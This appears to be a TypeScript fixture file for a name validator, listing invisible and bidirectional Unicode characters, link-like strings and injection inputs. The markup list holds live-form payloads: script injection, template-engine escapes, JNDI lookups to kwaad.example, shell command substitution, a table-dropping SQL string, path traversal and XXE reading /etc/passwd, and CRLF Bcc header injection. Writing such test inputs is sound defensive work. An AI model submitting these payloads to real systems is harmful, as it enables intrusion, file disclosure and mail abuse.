/** Characters that nobody can see, or that make a text read differently from what it is; none may stand in a name. */
export const UNPRINTABLE: Readonly<Record<string, string>> = {
  NUL: '\u0000',
  bell: '\u0007',
  backspace: '\b',
  tab: '\t',
  'line feed': '\n',
  'vertical tab': '\v',
  'form feed': '\f',
  'carriage return': '\r',
  'CR LF': '\r\n',
  'CR LF and a header': '\r\nBcc: kanarie-bcc@duinzicht.example',
  escape: '\u001b[31m',
  delete: '\u007f',
  'next line': '\u0085',
  'line separator': '\u2028',
  'paragraph separator': '\u2029',
  'Arabic letter mark': '\u061c',
  'left-to-right mark': '\u200e',
  'right-to-left mark': '\u200f',
  'left-to-right embedding': '\u202a',
  'right-to-left embedding': '\u202b',
  'pop directional formatting': '\u202c',
  'left-to-right override': '\u202d',
  'right-to-left override': '\u202e',
  'left-to-right isolate': '\u2066',
  'right-to-left isolate': '\u2067',
  'first strong isolate': '\u2068',
  'pop directional isolate': '\u2069',
  'half a character, high': '\ud800',
  'half a character, low': '\udc00',
  'replacement character': '\ufffd',
};

/** Characters without a shape of their own; two names that differ in one look the same. */
export const SHAPELESS: Readonly<Record<string, string>> = {
  'soft hyphen': '\u00ad',
  'zero width space': '\u200b',
  'zero width non-joiner': '\u200c',
  'zero width joiner': '\u200d',
  'word joiner': '\u2060',
  'byte order mark': '\ufeff',
  'Hangul filler': '\u3164',
};

/** What a mail program would make a link of: no name is one. */
export const LINKS: readonly string[] = [
  'Klik http://kwaad.example/x nu',
  'Gefeliciteerd! Ga naar www.kwaad.example',
  'WWW.KWAAD.EXAMPLE',
  '\uff57\uff57\uff57\uff0ekwaad.example',
  'https\uff1a//kwaad.example',
  'ftp://kwaad.example',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is what is tried here
  '${jndi:ldap://kwaad.example/a}',
];

/** What a template engine, a browser, a shell, a spreadsheet or a database would act on; for us they are names. */
export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</p><h1>Overgenomen</h1>',
  '<a href="//kwaad.example">klik hier</a>',
  '"><svg onload=alert(1)>',
  "' onmouseover='alert(1)",
  '&lt;b&gt; en &amp;',
  '{{7*7}}',
  '{{constructor.constructor("return process")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is what is tried here
  '${7*7}',
  '#{7*7}',
  '<%= 7*7 %>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is what is tried here
  '[[${7*7}]]',
  '{% include "/etc/passwd" %}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: template syntax is what is tried here
  '${jndi:dns:kwaad.example/a}',
  '$(touch /tmp/kwaad)',
  '`touch /tmp/kwaad`',
  "'; DROP TABLE aanmeldingen;--",
  '=HYPERLINK("mailto:a@kwaad.example")',
  '../../../etc/passwd',
  '%0d%0aBcc: kwaad@duinzicht.example',
  '{"level":"ERROR","message":"verzonnen"}',
  ']]><!DOCTYPE x [<!ENTITY e SYSTEM "/etc/passwd">]>',
];
